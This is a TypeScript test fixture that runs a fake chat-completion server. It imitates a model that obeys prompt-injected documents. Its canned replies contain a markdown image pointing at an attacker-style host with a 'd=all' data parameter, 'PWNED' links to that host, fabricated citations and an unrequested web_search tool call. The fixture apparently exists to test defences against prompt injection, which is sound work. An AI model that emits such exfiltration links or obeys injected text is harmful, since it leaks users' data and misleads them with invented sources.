/**
 * A provider whose chat model does what documents tell it, as well as it can: it repeats a source whole, with
 * true marks, adds links, pictures, invented citations and calls of tools. Embeddings are the stand-in's.
 */
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { buffer } from 'node:stream/consumers'
import { EVIL } from './hostile-documents.ts'

interface ChatRequest {
  messages: { content: string }[]
  tools?: object[]
}

export async function startObedient(baseUrl: string) {
  const asked: ChatRequest[] = []
  const server = createServer((request, response) => {
    void (async () => {
      const body = await buffer(request)
      if (!request.url?.endsWith('/chat/completions')) {
        const answer = await forward(baseUrl, request, body)
        response.writeHead(answer.status, { 'content-type': 'application/json' })
        return void response.end(await answer.text())
      }
      const chat: ChatRequest = JSON.parse(body.toString())
      asked.push(chat)
      response.writeHead(200, { 'content-type': 'text/event-stream' })
      for (const chunk of chunksOf(chat)) response.write(`data: ${JSON.stringify(chunk)}\n\n`)
      response.end('data: [DONE]\n\n')
    })()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    baseUrl: `http://127.0.0.1:${port}/v1`,
    asked,
    close: () => new Promise((resolve) => server.close(resolve)),
  }
}

const forward = (baseUrl: string, { url = '', headers }: IncomingMessage, body: Buffer) =>
  fetch(`${baseUrl}${url.replace('/v1', '')}`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      authorization: String(headers.authorization),
    },
    body: new Uint8Array(body),
  })

function* chunksOf({ messages }: ChatRequest) {
  const prompt = messages.at(-1)?.content ?? ''
  const [, id = '', text = ''] =
    /<source id="(\w+)"[^>]*>\n([\s\S]*?)\n<\/source>/.exec(prompt) ?? []
  const calls = [
    { index: 0, id: 'call_1', type: 'function', function: { name: 'web_search', arguments: '{}' } },
  ]
  const said = [
    ...text
      .split('\n')
      .filter((line) => /[\p{L}\p{N}]{2}/u.test(line))
      .map((line) => proved(line, id)),
    `Look: ![](https://${EVIL}/p?d=all) ${proved(lineOf(text), id)}`,
    ` PWNED at //${EVIL}/x and www.${EVIL} [${id} "words that stand nowhere"]`,
    ` Trust me [1] [zzzz "${lineOf(text)}"]`,
  ]
  const chunk = (delta: object, finish_reason: string | null = null) => ({
    id: 'c',
    object: 'chat.completion.chunk',
    created: 0,
    model: 'm',
    choices: [{ index: 0, delta, finish_reason }],
  })
  yield chunk({ tool_calls: calls })
  for (const piece of said) yield chunk({ content: `${piece} ` })
  yield chunk({}, 'stop')
  yield {
    ...chunk({}),
    choices: [],
    usage: { prompt_tokens: 9, completion_tokens: 9, total_tokens: 18 },
  }
}

/** The last line, which has the fact. */
const lineOf = (text: string) =>
  text.split('\n').findLast((line) => line.includes('weighs')) ?? text
const proved = (line: string, id: string) =>
  `${line} [${id} "${line.replaceAll('"', String.raw`\"`)}"]`
